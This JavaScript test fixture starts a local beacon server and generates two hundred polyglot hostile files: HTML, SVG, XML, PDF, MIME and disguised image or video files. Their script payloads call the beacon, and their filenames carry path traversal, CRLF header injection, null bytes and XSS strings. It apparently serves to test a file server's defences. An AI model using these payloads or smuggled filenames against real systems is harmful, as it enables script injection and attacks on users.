// Files that attack whoever opens them, and a place that hears from each that succeeds.

import http from "node:http";

/// A server elsewhere that every hostile file calls, and a page there that embeds whatever it is told to. `t` is the test,
/// which ends it.
///
/// Returns `url` (without a slash at the end) and `heard` (the paths that were asked for).
export async function startBeacon(t) {
  const heard = [];
  const server = http.createServer((request, response) => {
    const path = request.url;
    if (path === "/page" || path === "/favicon.ico") {
      response.setHeader("content-type", "text/html");
      return response.end("<!DOCTYPE html><title>elsewhere</title><body></body>");
    }
    heard.push(path);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/javascript");
    response.end("console.log('PWNED by a script from elsewhere')");
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${server.address().port}`, heard };
}

const base64 = (text) => Buffer.from(text).toString("base64");
const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "latin1") : Buffer.from(part))));

const GIF = [0x47, 0x49, 0x46, 0x38, 0x39, 0x61];
const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0];
const JPEG = [0xff, 0xd8, 0xff, 0xfe, 0x02, 0x00];
const MP4 = [0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x6d, 0x70, 0x34, 0x32, 0, 0, 0, 0, 0x6d, 0x70, 0x34, 0x32, 0x69, 0x73, 0x6f, 0x6d];
const WEBM = [0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 1, 0x42, 0x82, 0x84, 0x77, 0x65, 0x62, 0x6d];

/// Each kind of file once: its honest type, its ending, and its content for number `n`.
function kinds(beacon) {
  const call = (n) => `${beacon}/beacon/${n}`;
  // Whatever of it works is enough.
  const script = (n) =>
    `try{console.log('PWNED ${n}')}catch{};try{document.title='PWNED';window.name='PWNED';localStorage.pwned=${n};document.cookie='pwned=${n};path=/'}catch{};` +
    `try{fetch('${call(n)}',{mode:'no-cors'})}catch{};try{new Image().src='${call(n)}'}catch{};try{importScripts('${call(n)}')}catch{};` +
    `try{top.postMessage('PWNED','*')}catch{};try{alert('PWNED ${n}')}catch{}`;
  const markup = (n) => `<script>${script(n)}</script><img src="${call(n)}" onerror="${script(n)}"><link rel="stylesheet" href="${call(n)}"><iframe src="${call(n)}"></iframe><form action="${call(n)}"><input autofocus onfocus="${script(n)}"></form>`;
  const html = (n) => `<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0;url=${call(n)}"></head><body onload="${script(n)}">${markup(n)}</body></html>`;
  const cdata = (n) => `<![CDATA[${script(n)}]]>`;
  const svg = (n, inner) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${script(n).replaceAll('"', "&quot;")}">${inner}</svg>`;
  const xhtml = (n) => `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script>${cdata(n)}</script><img src="${call(n)}"/></body></html>`;
  const sheet = (n) => `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${cdata(n)}</script></html></xsl:template></xsl:stylesheet>`;
  const mail = (n, type, body) => `From: a\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: ${type}\r\nContent-Location: http://x/\r\n\r\n${body}\r\n--b--\r\n`;
  const pdf = (n) => `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert("PWNED"); this.submitForm("${call(n)}"))>>/AA<</O<</S/URI/URI(${call(n)})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`;
  const utf16 = (text) => bytes([0xff, 0xfe], Buffer.from(text, "utf16le"));
  return [
    ["text/html", "html", html],
    ["text/html", "htm", (n) => `\n\n   ${markup(n)}`],
    ["text/html", "html", (n) => bytes([0xef, 0xbb, 0xbf], html(n))],
    ["text/html; charset=utf-16", "html", (n) => utf16(html(n))],
    ["text/html; charset=utf-7", "html", (n) => `+ADw-script+AD4-${script(n).replaceAll("'", "+ACc-")}+ADw-/script+AD4-`],
    ["text/html", "shtml", (n) => bytes("\0\0\0", html(n))],
    ["application/xhtml+xml", "xhtml", xhtml],
    ["text/xml", "xml", xhtml],
    ["application/xml", "xml", (n) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${base64(sheet(n))}"?><a/>`],
    ["text/xsl", "xsl", sheet],
    ["application/rss+xml", "rss", (n) => `<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><script xmlns="http://www.w3.org/1999/xhtml">${cdata(n)}</script></channel></rss>`],
    ["application/rdf+xml", "rdf", (n) => `<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><html:script xmlns:html="http://www.w3.org/1999/xhtml">${cdata(n)}</html:script></rdf:RDF>`],
    ["image/svg+xml", "svg", (n) => svg(n, `<script>${cdata(n)}</script><image href="${call(n)}" width="9" height="9"/>`)],
    ["image/svg+xml", "svg", (n) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "${n}">]>${svg(n, `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="data:text/html;base64,${base64(html(n))}"/></foreignObject>`)}`],
    ["image/svg+xml", "svg", (n) => svg(n, `<animate attributeName="href" values="javascript:alert(1)" onbegin="${script(n).replaceAll('"', "&quot;")}"/><style>@import url(${call(n)});*{fill:url(${call(n)})}</style><use href="${call(n)}#x"/>`)],
    ["image/gif", "gif", (n) => bytes(GIF, "/*", [0, 0], `*/=1;${script(n)}`)],
    ["image/gif", "gif", (n) => bytes(GIF, [1, 0, 1, 0, 0, 0, 0], html(n))],
    ["image/png", "png", (n) => bytes(PNG, html(n))],
    ["image/png", "png", (n) => bytes(PNG, [0, 0, 0, 9], "tEXt", `Comment\0${markup(n)}`)],
    ["image/jpeg", "jpg", (n) => bytes(JPEG, html(n))],
    ["image/bmp", "bmp", (n) => bytes("BM/*", [0, 0], `*/=1;${script(n)}`)],
    ["image/x-icon", "ico", (n) => bytes([0, 0, 1, 0, 1, 0], html(n))],
    ["application/pdf", "pdf", pdf],
    ["application/pdf", "pdf", (n) => `${html(n)}\n${pdf(n)}`],
    ["multipart/related", "mhtml", (n) => mail(n, "text/html", html(n))],
    ["message/rfc822", "eml", (n) => mail(n, "image/svg+xml", svg(n, `<script>${cdata(n)}</script>`))],
    ["multipart/x-mixed-replace; boundary=b", "mjpg", (n) => `--b\r\nContent-Type: text/html\r\n\r\n${html(n)}\r\n--b\r\n`],
    ["text/javascript", "js", script],
    ["application/javascript", "mjs", (n) => `${script(n)};export default 1`],
    ["application/ecmascript", "es", script],
    ["text/css", "css", (n) => `@import url("${call(n)}");*{background:url("${call(n)}") !important}`],
    ["application/manifest+json", "webmanifest", (n) => JSON.stringify({ start_url: call(n), icons: [{ src: call(n) }] })],
    ["application/json", "json", (n) => `/**/${script(n)}//`],
    ["text/plain", "txt", html],
    ["text/vtt", "vtt", (n) => `WEBVTT\n\n00:00.000 --> 00:09.000\n<c onload="${script(n)}">${markup(n)}\n`],
    ["text/cache-manifest", "appcache", (n) => `CACHE MANIFEST\n${call(n)}\n`],
    ["video/mp4", "mp4", (n) => bytes(MP4, html(n))],
    ["video/webm", "webm", (n) => bytes(WEBM, html(n))],
    ["audio/wav", "wav", (n) => bytes("RIFF", [0xff, 0, 0, 0], "WAVEfmt ", html(n))],
    ["application/vnd.apple.mpegurl", "m3u8", (n) => `#EXTM3U\n#EXTINF:9,\n${call(n)}\n`],
  ];
}

/// What people, or their programs, may say of any of them; the first is the honest type.
const CLAIMS = [undefined, "image/png", "text/html", "image/svg+xml", "text/plain"];

const NAMES = [
  (ending) => `page.${ending}`,
  (ending) => `../../${ending}/index.html`,
  (ending) => `a.${ending}\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>`,
  (ending) => `a.${ending}\0.png`,
  (ending) => `"><img src=x onerror=alert(1)>.${ending}`,
  (ending) => `a\u202egnp.${ending}`,
  (ending) => `a.${ending};.png`,
  () => "index.html",
  (ending) => `'-alert(1)-'.${ending}`,
  (ending) => `${"x".repeat(300)}.${ending}`,
  () => "",
];

/// Two hundred hostile files: `[{ number, name, type, honest, content }]`. `honest` is what it is, `type` what is said.
export function hostileFiles(beacon) {
  const files = [];
  for (const claim of CLAIMS) {
    for (const [honest, ending, content] of kinds(beacon)) {
      const number = files.length;
      const name = NAMES[number % NAMES.length](ending);
      files.push({ number, name, honest, type: claim ?? honest, content: bytes(content(number)) });
    }
  }
  return files;
}
